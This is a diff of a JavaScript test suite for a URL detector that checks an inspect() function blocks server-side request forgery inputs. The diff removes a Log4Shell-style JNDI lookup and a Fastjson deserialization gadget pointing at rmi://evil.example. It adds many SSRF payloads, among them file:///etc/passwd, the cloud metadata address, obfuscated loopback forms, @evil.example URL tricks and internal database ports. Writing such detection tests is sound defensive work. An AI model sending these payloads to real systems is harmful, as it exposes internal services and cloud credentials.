@@ -51,15 +51,39 @@ describe('urlDetector', () => {
     ['ssrf', 'localhost/server-status', { place: 'query', name: 'callback' }],
     ['ssrf', 'http://localhost/'],
     ['ssrf', 'http://127.0.0.1/server-status'],
-    ['ssrf', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}'],
-    ['ssrf', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://e/x","autoCommit":true}'],
+    ['ssrf', 'file://localhost/etc/passwd'],
+    ['ssrf', 'jar:file:///tmp/a.jar!/'],
+    ['ssrf', 'http://169.254.169.254/computeMetadata/v1/'],
+    ['ssrf', 'http://[0:0:0:0:0:0:0:1]/'],
+    ['ssrf', 'http://0177.0.0.1/'],
+    ['ssrf', 'http://127.1/'],
+    ['ssrf', 'http://2852039166/latest/meta-data'],
+    ['ssrf', 'http://0xA9FEA9FE/'],
+    ['ssrf', 'http://[::ffff:7f00:1]/'],
+    ['ssrf', 'http://localhost%23@evil.example/'],
+    ['ssrf', 'http://127.0.0.1%2523@evil.example'],
+    ['ssrf', 'http://spoofed.burpcollaborator.net/'],
+    ['ssrf', 'http://a.b.c.sslip.io/'],
+    ['ssrf', 'http://10.0.0.1.xip.io/'],
+    ['ssrf', 'http://169.254.169.254.evil.example.nip.io'],
+    ['ssrf', 'http:/127.0.0.1/'],
+    ['ssrf', 'http:\\\\127.0.0.1\\'],
+    ['ssrf', 'https://127.0.0.1:8443/manager/html'],
+    ['ssrf', 'http://127.0.0.1:9200/_cat/indices'],
+    ['ssrf', 'http://127.0.0.1:3306'],
+    ['ssrf', 'http://10.0.0.5:27017'],
+    ['ssrf', 'ftp://127.0.0.1:21/'],
+    ['ssrf', 'smb://10.0.0.1/share'],
   ];
 
-  test.each(attacks)('%s is blocked: %j', (attackClass, text, at) => {
-    const { action, findings } = inspect(text, at);
-    expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
-      action: 'block',
-      classes: expect.arrayContaining([attackClass]),
-    });
-  });
+  test.each(attacks.map(([attackClass, text, at]) => ({ attackClass, text, at })))(
+    '$attackClass: $text',
+    ({ attackClass, text, at }) => {
+      const { action, findings } = inspect(text, at);
+      expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
+        action: 'block',
+        classes: expect.arrayContaining([attackClass]),
+      });
+    },
+  );
 });
